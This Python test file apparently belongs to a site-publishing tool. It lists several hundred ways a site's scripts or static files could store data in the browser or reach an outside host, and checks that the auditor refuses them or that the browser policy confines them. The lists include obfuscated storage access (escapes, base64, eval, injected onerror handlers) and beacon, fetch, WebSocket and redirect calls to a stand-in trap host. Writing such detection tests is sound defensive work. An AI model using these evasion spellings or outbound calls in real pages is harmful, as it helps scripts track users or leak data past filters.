"""Ways for a site's own scripts to keep something in a browser, or to reach another computer.

Each is written as a script of ``templates/static``. Most are refused by reading; those that aren't
are run in Chromium under the site's policy, one after the other in one visit, and what they keep and
whom they call is recorded. What is left in the end is named in the handbook („Was Skripte noch
können“): templates are code.
"""

import json
import re
from collections.abc import Iterator
from itertools import product
from pathlib import Path
from typing import Any, Final

import pytest

from netzsite.audit.read import is_known, read
from netzsite.rendering.policy import needs, policy
from tests.conftest import ROOT
from tests.hosting import hosted
from tests.lab import put

AWAY: Final = "https://falle.example.net"
OBJECTS: Final = ("localStorage", "sessionStorage")
KEPT: Final = {
    "cookie": ("document", "document.cookie = 'a=§'"),
    **{name: ("window", f"{name}.setItem('a', '§')") for name in OBJECTS},
    "indexedDB": ("window", "indexedDB.open('a§')"),
    "caches": ("window", "caches.open('a§')"),
    "cookieStore": ("window", "cookieStore.set('a', '§')"),
    "getDirectory": ("navigator.storage", "navigator.storage.getDirectory().then(d => d.getFileHandle('a', {create: true}))"),
    "serviceWorker": ("navigator", "navigator.serviceWorker.register('../sw.js')"),
}  # fmt: skip
"""Name → the object that has it, and how it is used plainly."""


def spelt(name: str) -> Iterator[tuple[str, str]]:
    """Ways to write a name of a property in a script: how, and the text."""
    half = len(name) // 2
    yield "a dot", f".{name}"
    yield "a bracket", f"['{name}']"
    yield "a bracket, double", f'["{name}"]'
    yield "a template", f"[`{name}`]"
    yield "an escape", "." + re.sub(r"^.", lambda hit: f"\\u{ord(hit[0]):04x}", name)
    yield (
        "an escape of a code point",
        "." + re.sub(r"^.", lambda hit: f"\\u{{{ord(hit[0]):x}}}", name),
    )
    yield "an escape in a string", f"['\\x{ord(name[0]):02x}{name[1:]}']"
    yield "an optional chain", f"?.{name}"
    yield "a comment between", f"/* . */./**/{name}"
    yield "a line between", f"\n.\n{name}"
    yield "a comment that ends at U+2028", f" //\u2028.{name}"
    yield "a comment that ends at U+2029", f" //\u2029.{name}"
    yield "a comment that ends at CR", f" //\r.{name}"
    yield "behind a comment of HTML", f"\n<!-- '\n.{name}"
    yield "in two halves", f"['{name[:half]}' + '{name[half:]}']"
    yield "in a list that is joined", f"[['{name[:half]}', '{name[half:]}'].join('')]"
    yield "turned round", f"['{name[::-1]}'.split('').reverse().join('')]"
    yield "in numbers", f"[String.fromCharCode({', '.join(str(ord(char)) for char in name)})]"
    yield "in base64", f"[atob('{__import__('base64').b64encode(name.encode()).decode()}')]"
    yield "found by its length", f"[(n => n)('{name[:1]}' + '{name[1:]}')]"


USES: Final = {
    "cookie": "{0} = 'a=§'",
    "localStorage": "{0}.setItem('a', '§')",
    "sessionStorage": "{0}.setItem('a', '§')",
    "indexedDB": "{0}.open('a§')",
    "caches": "{0}.open('a§')",
    "cookieStore": "{0}.set('a', '§')",
    "getDirectory": "{0}().then(d => d.getFileHandle('a', {{create: true}}))",
    "serviceWorker": "{0}.register('../sw.js')",
}
OTHERS: Final = {
    "a key of an object": "Object.assign(document, {cookie: 'a=§'})",
    "a quoted key": "Object.assign(document, {'cookie': 'a=§'})",
    "Reflect.set": "Reflect.set(document, 'cookie', 'a=§')",
    "a destructured name": "const {localStorage: s} = window; s.setItem('a', '§')",
    "a destructured key": "const {['localStorage']: s} = window; s.setItem('a', '§')",
    "the name of the window": "window.name = 'kept§'",
    "a state of the history": "history.replaceState({kept: '§'}, '')",
    "location": f"location = '{AWAY}/?§'",
    "location, in pieces": f"location = '{AWAY[:7]}' + '{AWAY[7:]}/?§'",
    "location.assign": f"location.assign('htt' + '{AWAY[3:]}/?§')",
    "location.replace": f"location.replace('htt' + '{AWAY[3:]}/?§')",
    "location.href": f"location.href = 'htt' + '{AWAY[3:]}/?§'",
    "window.open": f"window.open('htt' + '{AWAY[3:]}/?§')",
    "a click of its own": f"const a = document.createElement('a'); a.href = 'htt' + '{AWAY[3:]}/?§'; document.body.append(a); a.click()",
    "a refresh that is put in": f"const m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url=htt' + '{AWAY[3:]}/?§'; document.head.append(m)",
    "a form that is sent": f"const f = document.createElement('form'); f.action = 'htt' + '{AWAY[3:]}/?§'; document.body.append(f); f.submit()",
    "a frame": f"const i = document.createElement('iframe'); i.src = 'htt' + '{AWAY[3:]}/?§'; document.body.append(i)",
    "a frame with a page of its own": f"const i = document.createElement('iframe'); i.srcdoc = '<img src=htt' + '{AWAY[3:]}/?§>'; document.body.append(i)",
    "WebRTC": "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:9'}]}); p.createDataChannel('a')",
    "WebRTC, in pieces": "const p = new window['RTC' + 'PeerConnection']({iceServers: [{urls: 'stun:127.0.0.1:9'}]}); p.createDataChannel('a'); window.called = '§'",
    **{f"{how}": code for how, code in {
        "fetch": f"fetch('htt' + '{AWAY[3:]}/?§')",
        "a request of old": f"const x = new XMLHttpRequest(); x.open('GET', 'htt' + '{AWAY[3:]}/?§'); x.send()",
        "a socket": "new WebSocket('ws' + 's://falle.example.net/?§')",
        "events": f"new EventSource('htt' + '{AWAY[3:]}/?§')",
        "a beacon": f"navigator.sendBeacon('htt' + '{AWAY[3:]}/?§')",
        "a picture": f"new Image().src = 'htt' + '{AWAY[3:]}/?§'",
        "a sound": f"new Audio('htt' + '{AWAY[3:]}/?§')",
        "a script": f"const s = document.createElement('script'); s.src = 'htt' + '{AWAY[3:]}/?§'; document.head.append(s)",
        "an import": f"import('htt' + '{AWAY[3:]}/?§').catch(() => 0)",
        "a stylesheet": f"const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'htt' + '{AWAY[3:]}/?§'; document.head.append(l)",
        "a prefetch": f"const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'htt' + '{AWAY[3:]}/?§'; document.head.append(l)",
        "a preconnect": f"const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'htt' + '{AWAY[3:]}/?§'; document.head.append(l)",
        "a font": f"new FontFace('a', 'url(htt' + '{AWAY[3:]}/?§)').load().catch(() => 0)",
        "a style": f"document.body.style.background = 'url(htt' + '{AWAY[3:]}/?§)'",
        "a worker": f"new Worker('htt' + '{AWAY[3:]}/?§')",
        "a worker of its own": "new Worker(URL.createObjectURL(new Blob(['0'])))",
        "an object": f"const o = document.createElement('object'); o.data = 'htt' + '{AWAY[3:]}/?§'; document.body.append(o)",
        "an embed": f"const o = document.createElement('embed'); o.src = 'htt' + '{AWAY[3:]}/?§'; document.body.append(o)",
        "a base": f"const b = document.createElement('base'); b.href = 'htt' + '{AWAY[3:]}/?§'; document.head.append(b); new Image().src = 'a.png'",
        "eval": "eval('document.coo' + 'kie = \"a=§\"')",
        "a function made": "new Function('document.coo' + 'kie = \"a=§\"')()",
        "a timer that reads": "setTimeout('document.coo' + 'kie = \"a=§\"')",
        "a script that is written": f"document.write('<img src=htt' + '{AWAY[3:]}/?§>')",
        "a handler that is written": "document.body.innerHTML = '<img src=x onerror=\"document.coo' + 'kie=1\">'",
        "a popover of a module": "import('data:text/javascript,document.coo' + 'kie=1').catch(() => 0)",
    }.items()},
}  # fmt: skip
WRITTEN: Final[dict[str, bytes]] = {
    **{f"{name}, {how}": f"{KEPT[name][0]}{text}".join(USES[name].split("{0}")).replace("{{", "{").replace("}}", "}").encode()
       for name in USES for how, text in spelt(name)},
    **{name: code.encode() for name, code in OTHERS.items()},
}  # fmt: skip
FILES: Final[dict[str, tuple[str, bytes]]] = {
    **{f"a script named {name}": (name, b"document.cookie = 'a=1'") for name in ("a.cjs", "a", "a.JS~", "a.jsx", "a.ts", "a.es6", "a.wasm", "a.shtml", "a.php", "a.hta", "a.swf", "a.jar", "a.xap", "a.mht", "a.svgz", "a.htc", "a.cgi", "a.map")},
    **{f"a script in {code}": ("a.js", "document.cookie = 'a=1'".encode(code)) for code in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-32-le", "utf-32-be")},
    "a script in ISO-2022": ("a.js", b"\x1b$B\x1b(Bdocument.cookie=1"),
    "a script in Latin-1": ("a.js", "// ü\ndocument.title = 1".encode("latin-1")),
    "a style in UTF-16": ("a.css", f"@import '{AWAY}'".encode("utf-16")),
    **{f"{kind} that loads": (f"a.{kind}", f"<a xmlns='http://www.w3.org/1999/xhtml'><img src='{AWAY}'/></a>".encode()) for kind in ("xml", "xsl", "xslt", "xhtml", "xht", "svg", "rss", "atom", "rdf")},
    **{f"{kind} that leads on": (f"a.{kind}", f"<meta xmlns='http://www.w3.org/1999/xhtml' http-equiv='refresh' content='0;url={AWAY}'/>".encode()) for kind in ("xml", "xsl", "xhtml", "svg")},
    **{f"{kind} with a sheet": (f"a.{kind}", f"<?xml-stylesheet href='{AWAY}'?><a/>".encode()) for kind in ("xml", "xsl", "svg")},
    **{f"{kind} with a script": (f"a.{kind}", b"<a xmlns='http://www.w3.org/1999/xhtml'><script>x()</script></a>") for kind in ("xml", "xsl", "svg", "html", "htm")},
    "a manifest": ("a.webmanifest", json.dumps({"icons": [{"src": AWAY}]}).encode()),
    **{f"a page with {tag}": ("a.html", tag.replace("§", AWAY).encode()) for tag in (
        "<script src=a.txt></script>", "<script src=a></script>", "<script src=§></script>", "<iframe src=§></iframe>",
        "<meta http-equiv=refresh content='0;url=§'>", "<form action=§></form>", "<base href=§>", "<object data=§></object>",
        "<embed src=§>", "<img src=§>", "<img srcset=§>", "<video poster=§></video>", "<link rel=preconnect href=§>",
        "<link rel=prefetch href=§>", "<a href=a ping=§>x</a>", "<body background=§>", "<style>@import '§'</style>",
        "<p style='background: url(§)'>x</p>", "<a href='javascript:x()'>x</a>", "<p onclick=x()>x</p>",
        "<template><img src=§></template>", "<svg><image href=§></svg>", "<iframe srcdoc='<img src=§>'></iframe>",
    )},
    **{f"a style with {rule}": ("a.css", rule.replace("§", AWAY).encode()) for rule in (
        "@import '§';", "@import url(§);", "a { background: url(§) }", "a { background: image-set('§' 1x) }",
        "a { background: u\\72l(§) }", "@font-face { src: url(§) }", "a { cursor: url(§), auto }", "a { filter: url(§#a) }",
    )},
}  # fmt: skip


def refused(name: str, data: bytes) -> bool:
    """Whether a file of ``templates/static`` keeps a site from being published."""
    if not is_known(name):
        return True
    facts = read(f"static/{name}", data, f"/static/{name}", "https://musterdorf-netz.de")
    return facts is not None and bool(facts.findings)


def test_there_are_enough_ways():
    assert len(WRITTEN) + len(FILES) >= 285


@pytest.mark.parametrize("way", FILES)
def test_a_file_that_loads_runs_or_cant_be_read_is_refused(way: str):
    assert refused(*FILES[way])


PLAIN: Final = ("a dot", "a bracket", "a bracket, double", "a template", "an escape", "an escape of a code point", "an escape in a string", "an optional chain", "a comment between", "a line between", "a comment that ends at U+2028", "a comment that ends at U+2029", "a comment that ends at CR", "behind a comment of HTML")  # fmt: skip


@pytest.mark.parametrize(("name", "how"), list(product(USES, PLAIN)))
def test_a_name_that_is_written_is_found_however_it_is_spelt(name: str, how: str):
    assert refused("a.js", WRITTEN[f"{name}, {how}"])


HANDBOOK: Final = (ROOT / "docs" / "handbuch.md").read_text("utf-8")
SEEN: Final = """async () => ({
  cookies: document.cookie, local: localStorage.length, session: sessionStorage.length,
  databases: (await indexedDB.databases()).length, caches: (await caches.keys()).length,
  workers: (await navigator.serviceWorker.getRegistrations()).length,
  files: await (async () => { let n = 0; for await (const _ of (await navigator.storage.getDirectory()).keys()) n += 1; return n; })(),
  name: window.name, state: history.state && history.state.kept, called: window.called,
})"""
CLEAR: Final = """async () => {
  localStorage.clear(); sessionStorage.clear(); window.name = "";
  for (const { name } of await indexedDB.databases()) indexedDB.deleteDatabase(name);
  for (const name of await caches.keys()) await caches.delete(name);
  for (const one of await navigator.serviceWorker.getRegistrations()) await one.unregister();
  const home = await navigator.storage.getDirectory();
  for await (const name of home.keys()) await home.removeEntry(name);
}"""


def test_what_scripts_can_still_do_is_just_what_the_handbook_names(browser: Any, tmp_path: Path):
    """One visit for all that reading doesn't refuse: each way on a page of its own."""
    left = {
        way: code.decode()
        for way, code in WRITTEN.items()
        if not refused("a.js", code)
        and (way in OTHERS or way.startswith("cookie, ") or way.endswith(", in two halves"))
    }
    head = (
        f'<meta http-equiv="Content-Security-Policy" content="{policy(needs("<script src=x>"))}">'
    )
    for number, code in enumerate(left.values()):
        put(tmp_path / f"{number}.js", code.replace("§", str(number)))
        put(tmp_path / f"{number}.html", f'<!doctype html><html><head><meta charset="utf-8">{head}<title>x</title></head><body><script src="{number}.js"></script><script src="ran.js"></script></body></html>')  # fmt: skip
    put(tmp_path / "sw.js", "")
    put(tmp_path / "ran.js", "document.documentElement.dataset.ran = '1';")
    put(tmp_path / "leer.html", "<!doctype html><title>x</title>")
    kept, called = set(), set()
    with hosted(tmp_path) as origin:
        context = browser.new_context()
        now = ""

        def note(route: Any) -> None:
            called.add(now)
            route.fulfill(status=204)  # a page that would be left stays

        context.route(f"{AWAY}/**", note)
        for number, way in enumerate(left):
            now = way
            page = context.new_page()
            page.goto(f"{origin}/{number}.html", wait_until="commit")
            for _ in range(100):  # until the script has run, and a moment for what it began
                page.wait_for_timeout(20)
                if page.evaluate("document.documentElement.dataset.ran"):
                    break
            page.wait_for_timeout(30)
            seen = page.evaluate(SEEN)
            if seen.pop("called", None):
                called.add(way)
            if any(seen.values()):
                kept.add(way)
                page.evaluate(CLEAR)
            context.clear_cookies()
            for one in context.pages:
                one.close()
        context.close()
    listed = re.findall(r"^\| `([a-z]+)` \|", HANDBOOK.partition("#### Was Skripte noch können")[2].partition("\n#")[0], re.MULTILINE)  # fmt: skip
    assert {GROUPS.get(way, "rechnen") for way in kept | called} == set(listed)
    # A policy stops what is asked for; what leaves the page, or talks past it, isn't a request.
    assert called <= GROUPS.keys(), called - GROUPS.keys()


GROUPS: Final = {
    "the name of the window": "name",
    "a state of the history": "history",
    **dict.fromkeys(
        ("location, in pieces", "location.assign", "location.replace", "location.href"), "location"
    ),
    "window.open": "open",
    "a click of its own": "click",
    "a refresh that is put in": "refresh",
    "WebRTC, in pieces": "webrtc",
}
"""Ways that are left → what the handbook calls them."""
